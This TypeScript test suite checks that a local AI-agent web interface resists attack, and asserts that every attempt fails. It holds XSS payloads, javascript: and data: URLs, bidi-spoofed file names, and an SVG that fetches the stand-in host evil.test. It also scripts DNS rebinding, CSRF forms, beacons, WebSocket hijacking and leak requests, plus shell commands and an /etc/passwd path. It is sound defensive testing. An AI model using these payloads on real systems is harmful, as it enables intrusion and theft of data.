import { existsSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { temporaryDirectory } from '@robota-sdk/agent-testing';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Chromium, findChromium } from './chromium.ts';
import { call, Storyteller } from './exported-session.ts';
import { startWeb, type WebProgram } from './web-program.ts';

const chromium = findChromium();
const missing = chromium === undefined ? ' (not here: there is no Chromium)' : '';

/** Runs wherever text becomes markup, an address or a handler. */
const bait = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '"><svg onload="window.pwned=1">',
  "javascript:window.pwned=1//'",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '{{constructor.constructor("window.pwned=1")()}}',
  // Reads as a picture, and hides what follows.
  'report\u202egnp.exe\u202c \u2066order\u2069 \u0007\u009b8m',
].join(' ');

/** A session whose every text is hostile. */
async function tellHostileSession(home: string, cwd: string): Promise<string> {
  const story = await Storyteller.begin(home, cwd);
  await story.ask(`${bait} title`);
  const markdown = [
    bait,
    '[click](javascript:window.pwned=1) ![x](javascript:window.pwned=1) <a href="javascript:window.pwned=1">y</a>',
    '[data](data:text/html,<script>window.pwned=1</script>) ![r](https://evil.test/leak.png)',
    `\`\`\`html\n${bait}\n\`\`\``,
    `| ${bait} | b |\n|---|---|\n| ${bait} | c |`,
  ].join('\n\n');
  await story.answer([
    { type: 'thinking', text: markdown },
    { type: 'text', text: markdown },
    call('c1', 'Bash', { command: bait }),
    call('c2', 'Edit', { file_path: `src/${bait}.ts`, old_string: bait, new_string: bait }),
    call(`c3${bait}`, `mcp__${bait}`, { [bait]: bait }),
  ]);
  const output = `\u001b[31m${bait}\u001b]8;;javascript:window.pwned=1\u0007link\u001b]8;;\u0007\u001b[0m`;
  await story.result('c1', output, { display: { kind: 'terminal', command: bait, output, exitCode: 0 } });
  await story.result('c2', bait, {
    display: {
      kind: 'diff',
      path: `src/${bait}.ts`,
      lines: [
        { kind: 'removed', text: bait, line: 1 },
        { kind: 'added', text: `${bait}!`, line: 1 },
      ],
    },
  });
  await story.result(`c3${bait}`, bait);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1"><script>parent.pwned=1;fetch('https://evil.test/svg')</script><image href="https://evil.test/svg.png"/></svg>`;
  for (const mimeType of [
    'image/svg+xml',
    'text/html',
    'image/png" onerror="window.pwned=1',
    'image/png;,<script>',
  ])
    await story.ask({ type: 'image', mimeType, data: Buffer.from(svg).toString('base64') });
  // The small model writes titles.
  await story.handle.setName(`${bait} title`);
  await story.handle.close();
  return story.handle.id;
}

describe.skipIf(chromium === undefined)(`attacks on robota web in a browser${missing}`, () => {
  let browser: Chromium;
  let web: WebProgram;
  let evil: Server;
  let session: string;
  /** Requests that the foreign server got. */
  const seen: IncomingMessage[] = [];
  let evilPort: number;
  let cwd: string;
  const key = () => browser.evaluate<string>(`localStorage.getItem('robota-key')`);

  beforeAll(async () => {
    const home = await temporaryDirectory('robota-home');
    cwd = await temporaryDirectory();
    session = await tellHostileSession(home, cwd);
    web = await startWeb({ cwd, home });
    evil = createServer((request, reply) => {
      seen.push(request);
      reply.setHeader('Content-Type', 'text/html');
      reply.end('<!doctype html><title>evil</title><link rel="icon" href="data:,"><body>evil</body>');
    });
    await new Promise<void>((resolve) => evil.listen(0, () => resolve()));
    evilPort = (evil.address() as AddressInfo).port;
    // The names of the attacker lead to this machine, as DNS rebinding makes them.
    browser = await Chromium.start(chromium ?? '', ['--host-resolver-rules=MAP *.test 127.0.0.1']);
    await browser.open(web.address);
    await until(`localStorage.getItem('robota-key')`);
  });
  afterAll(async () => {
    await browser?.close();
    evil?.close();
    evil?.closeAllConnections();
    const code = await web?.stop();
    // No attack stops it. The address stands on standard output and nowhere else, and requests are not logged.
    expect({ code, ...web?.output() }).toEqual({
      code: 0,
      stdout: `${web.address}\n`,
      stderr: 'The address works once, within a minute. Ctrl+C stops the server.\n',
    });
  });
  beforeEach(() => {
    seen.length = 0;
  });

  const until = (expression: string) =>
    browser.evaluate(`new Promise((resolve) => {
      const look = () => (${expression}) ? resolve(true) : setTimeout(look, 10);
      look();
    })`);

  /** The statuses of replies from addresses that begin so. */
  function repliesOf(start: string): readonly number[] {
    return browser.events
      .filter(({ method }) => method === 'Network.responseReceived')
      .map(({ params }) => (params as { response: { url: string; status: number } }).response)
      .filter(({ url }) => url.startsWith(start))
      .map(({ status }) => status);
  }

  /** The statuses that an attack got from our server. */
  async function statuses(attack: () => Promise<unknown>): Promise<readonly number[]> {
    browser.events.length = 0;
    await attack();
    return repliesOf(web.origin);
  }

  const devices = async () => {
    const headers = `{ headers: { 'Robota-Key': localStorage.getItem('robota-key') } }`;
    await browser.open(`${web.origin}/devices`);
    return browser.evaluate<{ devices: readonly unknown[] }>(
      `fetch('/api/devices', ${headers}).then((reply) => reply.json())`,
    );
  };

  it('the token leaves the address bar and the history, and the cookie is no script’s', async () => {
    await until(`location.hash === ''`);
    const { entries } = (await browser.send('Page.getNavigationHistory')) as {
      entries: readonly { readonly url: string }[];
    };
    expect(entries.map(({ url }) => url)).toContain(`${web.origin}/`);
    expect(entries.map(({ url }) => url).join()).not.toContain(web.token);
    expect(await browser.evaluate('document.cookie')).toBe('');
    expect(
      await browser.evaluate(`JSON.stringify(localStorage) + JSON.stringify(sessionStorage)`),
    ).not.toContain(web.token);
    expect(JSON.stringify(await devices())).not.toContain(await key());
  });

  it('a name that is bound to this machine again gets 421, for the page too', async () => {
    for (const path of ['/', '/api/board', `/s/${session}`]) {
      const rebound = `http://rebound.test:${new URL(web.origin).port}${path}`;
      browser.events.length = 0;
      await browser.open(rebound);
      expect(repliesOf(rebound)).toEqual([421]);
      expect(await browser.evaluate('document.body.innerText')).not.toContain('Board');
    }
  });

  describe.each([
    ['a foreign site', () => `http://evil.test:${evilPort}/`],
    ['another port of this host', () => `http://127.0.0.1:${evilPort}/`],
    ['localhost', () => `http://localhost:${evilPort}/`],
  ])('from %s', (_, address) => {
    const attack = (script: string) => browser.evaluate<string>(`(async () => { ${script} })()`);
    const failing = (request: string) =>
      attack(
        `try { const reply = await ${request}; return reply.type + reply.status; } catch { return 'failed'; }`,
      );

    beforeEach(async () => {
      await browser.open(address());
    });

    it('nothing is read: fetch, XMLHttpRequest and EventSource', async () => {
      const target = `${web.origin}/api/board`;
      expect(await failing(`fetch('${target}', { credentials: 'include' })`)).toBe('failed');
      expect(
        await failing(`fetch('${target}', { credentials: 'include', headers: { 'Robota-Key': 'x' } })`),
      ).toBe('failed');
      expect(await failing(`fetch('${web.origin}/', { credentials: 'include' })`)).toBe('failed');
      const opaque = await statuses(() =>
        failing(`fetch('${target}', { credentials: 'include', mode: 'no-cors' })`),
      );
      expect(opaque.every((status) => status === 403)).toBe(true);
      const source = await attack(`return new Promise((resolve) => {
        const source = new EventSource('${web.origin}/api/events', { withCredentials: true });
        source.onmessage = source.onopen = () => resolve('open');
        source.onerror = () => { source.close(); resolve('failed'); };
      })`);
      expect(source).toBe('failed');
    });

    it('nothing is changed: forms, no-cors text, beacons and preflights', async () => {
      const before = (await devices()).devices.length;
      await browser.open(address());
      const target = `${web.origin}/api/pair/new`;
      const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
      const replies = await statuses(async () => {
        for (const type of types) {
          const options = `{ method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}', headers: { 'Content-Type': '${type}' } }`;
          await failing(`fetch('${target}', ${options})`);
        }
        for (const options of [
          `{ method: 'POST', credentials: 'include', body: '{}', headers: { 'Content-Type': 'application/json' } }`,
          `{ method: 'PUT', credentials: 'include' }`,
          `{ method: 'DELETE', credentials: 'include' }`,
        ])
          expect(await failing(`fetch('${target}', ${options})`)).toBe('failed');
        await attack(`navigator.sendBeacon('${target}', new Blob(['{}'], { type: 'text/plain' }))`);
        for (const type of types)
          await attack(`return new Promise((resolve) => {
            const frame = document.createElement('iframe');
            frame.name = 'target';
            frame.onload = () => { if (form.parentNode) { form.remove(); resolve(); } };
            const form = document.createElement('form');
            Object.assign(form, { method: 'POST', action: '${target}', target: 'target', enctype: '${type}' });
            const field = Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' });
            form.append(field);
            document.body.append(frame, form);
            form.submit();
          })`);
      });
      expect(replies.filter((status) => status < 400)).toEqual([]);
      expect((await devices()).devices).toHaveLength(before);
    });

    it('nothing is embedded: frames, images, scripts, styles, objects and workers', async () => {
      const loaded = await attack(`const load = (name, fields) => new Promise((resolve) => {
          const element = Object.assign(document.createElement(name), fields);
          element.onload = () => resolve(name + ' loaded');
          element.onerror = () => resolve('failed');
          document.body.append(element);
        });
        return (await Promise.all([
          load('img', { src: '${web.origin}/' }),
          load('img', { src: '${web.origin}/api/board' }),
          load('script', { src: '${web.origin}/api/board' }),
          load('script', { src: '${web.origin}/' }),
          load('link', { rel: 'stylesheet', href: '${web.origin}/' }),
          load('video', { src: '${web.origin}/' }),
          load('object', { data: '${web.origin}/' }),
          load('embed', { src: '${web.origin}/', type: 'text/html' }),
        ].slice(0, 5))).join()`);
      expect(loaded).toBe('failed,failed,failed,failed,failed');
      const framed = await attack(`return new Promise((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { src: '${web.origin}/' });
        frame.onload = () => { try { resolve(frame.contentDocument ? 'empty' : 'closed'); } catch { resolve('closed'); } };
        document.body.append(frame);
      })`);
      expect(framed).toMatch(/closed|empty/);
      const { frameTree } = (await browser.send('Page.getFrameTree')) as {
        frameTree: { childFrames?: readonly { frame: { url: string } }[] };
      };
      const urls = (frameTree.childFrames ?? []).map(({ frame }) => frame.url);
      expect(urls.filter((url) => url.startsWith(web.origin))).toEqual([]);
    });

    it('nothing is spoken over a WebSocket, and a window of ours is out of reach', async () => {
      const socket = await attack(`return new Promise((resolve) => {
        const socket = new WebSocket('${web.origin.replace('http', 'ws')}/api/events');
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('failed');
      })`);
      expect(socket).toBe('failed');
      const reached = await attack(`const other = window.open('${web.origin}/', 'ours');
        for (let tries = 0; other && !other.closed && tries < 500; tries++) {
          await new Promise((resolve) => setTimeout(resolve, 10));
        }
        try { return !other || other.closed ? 'cut off' : String(other.document.title); } catch { return 'refused'; }`);
      expect(reached).toMatch(/cut off|refused/);
    });

    it('neither the key nor a usable cookie is found', async () => {
      expect(await attack(`return JSON.stringify(localStorage) + document.cookie`)).not.toContain('robota');
      await browser.open(address());
      await expect.poll(() => seen.length).toBeGreaterThan(0);
      const stolen = seen.map(({ headers }) => headers.cookie ?? '').join('; ');
      // Browsers send cookies to every port of a host; alone they are worth nothing.
      const headers = {
        Origin: web.origin,
        'Sec-Fetch-Site': 'same-origin',
        Cookie: stolen,
        'Robota-Key': 'x',
      };
      const reply = await fetch(`${web.origin}/api/board`, { headers });
      expect(reply.status).toBe(401);
    });
  });

  describe('inside the page', () => {
    beforeEach(async () => {
      await browser.open(`${web.origin}/`);
      await until(`document.getElementById('app').childElementCount > 0`);
    });

    const throwing = (script: string) =>
      browser.evaluate<string>(
        `(() => { try { ${script}; return 'done'; } catch (error) { return error.name; } })()`,
      );

    /** As `throwing`, without the right of a debugger to evaluate text. */
    async function evaluated(script: string): Promise<string> {
      const expression = `(() => { try { ${script}; return 'done'; } catch (error) { return error.name; } })()`;
      const { result } = await browser.send('Runtime.evaluate', {
        expression,
        allowUnsafeEvalBlockedByCSP: false,
      });
      return String((result as { value: unknown }).value);
    }

    it('hostile titles, names, diffs, Markdown and terminal output stay text', async () => {
      for (const path of ['/', `/s/${session}`, `/s/${session}/review`, '/usage']) {
        await browser.open(`${web.origin}${path}`);
        await until(`document.body.innerText.includes('${path === '/usage' ? 'Usage' : 'onerror'}')`);
        await browser.evaluate(`document.querySelectorAll('details').forEach((one) => { one.open = true; })`);
        await browser.evaluate(
          `new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))`,
        );
        // Prompt, answer, calls, output and differences: all of them are drawn.
        if (path === `/s/${session}`) await until(`document.body.textContent.split('onerror').length > 6`);
        const found = await browser.evaluate(`[...document.querySelectorAll('*')].flatMap((one) => [
          ...(['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FORM'].includes(one.tagName) && one.srcdoc ? [one.tagName] : []),
          ...[...one.attributes].filter(({ name, value }) => name.startsWith('on') || /^\\s*(javascript|data:text)/i.test(value)).map(({ name }) => one.tagName + ' ' + name),
        ])`);
        expect(found).toEqual([]);
        expect(await browser.evaluate('document.scripts.length')).toBe(1);
        expect(await browser.evaluate('window.pwned ?? 0')).toBe(0);
        const shown = await browser.evaluate<string>(
          `[document.title, document.body.textContent, ...[...document.querySelectorAll('[title], [aria-label]')].flatMap((one) => [one.title, one.ariaLabel])].join()`,
        );
        expect(shown.match(/.{0,20}(?:[^\P{Cc}\t\n]|[\u202a-\u202e\u2066-\u2069]).{0,20}/gu)).toBeNull();
      }
      expect(seen.map(({ url }) => url)).toEqual([]);
    });

    it('text cannot become markup or code, even by a mistake of ours', async () => {
      for (const sink of [
        `document.body.innerHTML = '<b>x</b>'`,
        `document.body.outerHTML = '<b>x</b>'`,
        `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
        `document.write('<b>x</b>')`,
        `new DOMParser().parseFromString('<b>x</b>', 'text/html')`,
        `document.createRange().createContextualFragment('<b>x</b>')`,
        `Object.assign(document.createElement('iframe'), { srcdoc: '<b>x</b>' })`,
        `Object.assign(document.createElement('script'), { text: 'window.pwned = 1' })`,
        `Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js' })`,
        `document.body.setAttribute('onclick', 'window.pwned = 1')`,
        `setTimeout('window.pwned = 1', 0)`,
        `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
        `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
      ])
        expect(`${sink}: ${await throwing(sink)}`).toBe(`${sink}: TypeError`);
      for (const sink of [`eval('window.pwned = 1')`, `new Function('window.pwned = 1')()`])
        expect(await evaluated(sink)).toMatch(/EvalError|TypeError/);
      expect(await browser.evaluate('window.pwned ?? 0')).toBe(0);
    });

    it('a script that got in would not run, and could tell the world nothing', async () => {
      await browser.evaluate(`(() => {
        const script = document.createElement('script');
        script.append('window.pwned = 1');
        document.body.append(script);
        const style = document.createElement('style');
        style.append('body { display: none }');
        document.head.append(style);
        location.href = 'javascript:window.pwned=1';
      })()`);
      expect(await browser.evaluate('window.pwned ?? 0')).toBe(0);
      expect(await browser.evaluate('getComputedStyle(document.body).display')).not.toBe('none');
      const evilUrl = `http://127.0.0.1:${evilPort}/leak`;
      const tries = await browser.evaluate(`(async () => {
        const failed = (promise) => promise.then(() => 'sent', () => 'failed');
        const load = (name, fields) => new Promise((resolve) => {
          const element = Object.assign(document.createElement(name), fields);
          element.onload = () => resolve('sent');
          element.onerror = () => resolve('failed');
          document.body.append(element);
        });
        const form = Object.assign(document.createElement('form'), { action: '${evilUrl}', method: 'POST' });
        document.body.append(form);
        form.submit();
        const base = Object.assign(document.createElement('base'), { href: '${evilUrl}' });
        document.head.append(base);
        navigator.sendBeacon('${evilUrl}', 'x');
        return [
          await failed(fetch('${evilUrl}', { mode: 'no-cors' })),
          await load('img', { src: '${evilUrl}' }),
          await load('link', { rel: 'stylesheet', href: '${evilUrl}' }),
          document.baseURI.startsWith('${web.origin}') ? 'failed' : 'based',
          await failed(navigator.serviceWorker.register('/sw.js')),
        ].join();
      })()`);
      expect(tries).toBe('failed,failed,failed,failed,failed');
      expect(seen.map(({ url }) => url)).toEqual([]);
    });

    it('a link to elsewhere tells nothing of where it stood, and private replies are not kept', async () => {
      await browser.evaluate(`(() => {
        const link = Object.assign(document.createElement('a'), { href: 'http://127.0.0.1:${evilPort}/', rel: '' });
        document.body.append(link);
        link.click();
      })()`);
      await expect.poll(() => seen.length).toBeGreaterThan(0);
      expect(seen.every(({ headers }) => headers.referer === undefined)).toBe(true);
      await browser.open(`${web.origin}/`);
      const headers = `{ 'Robota-Key': localStorage.getItem('robota-key') }`;
      const kept = await browser.evaluate(`(async () => {
        await fetch('/api/board', { headers: ${headers}, cache: 'default' }).then((reply) => reply.text());
        return fetch('/api/board', { headers: ${headers}, cache: 'only-if-cached', mode: 'same-origin' })
          .then((reply) => reply.status, () => 'none');
      })()`);
      expect(kept).not.toBe(200);
    });

    it('runs no command of the user: not by a prompt, not by a path', async () => {
      const headers = `{ 'Robota-Key': localStorage.getItem('robota-key'), 'Content-Type': 'application/json' }`;
      const post = (path: string, body: unknown) =>
        browser.evaluate<number>(
          `fetch('${path}', { method: 'POST', headers: ${headers}, body: ${JSON.stringify(JSON.stringify(body))} }).then((reply) => reply.status)`,
        );
      const touch = `!touch ${join(cwd, 'pwned')}`;
      for (const as of ['prompt', 'steer', 'queue'])
        expect(await post(`/api/sessions/${session}/prompt`, { text: touch, as })).toBeGreaterThanOrEqual(
          400,
        );
      expect(await post('/api/sessions', { cwd, prompt: touch })).toBeGreaterThanOrEqual(400);
      for (const path of ['/api/shell', '/api/exec', '/api/pty', '/api/terminal', '/api/files', '/api/run'])
        expect(await post(path, { command: touch, path: '/etc/passwd' })).toBe(404);
      expect(existsSync(join(cwd, 'pwned'))).toBe(false);
    });
  });
});
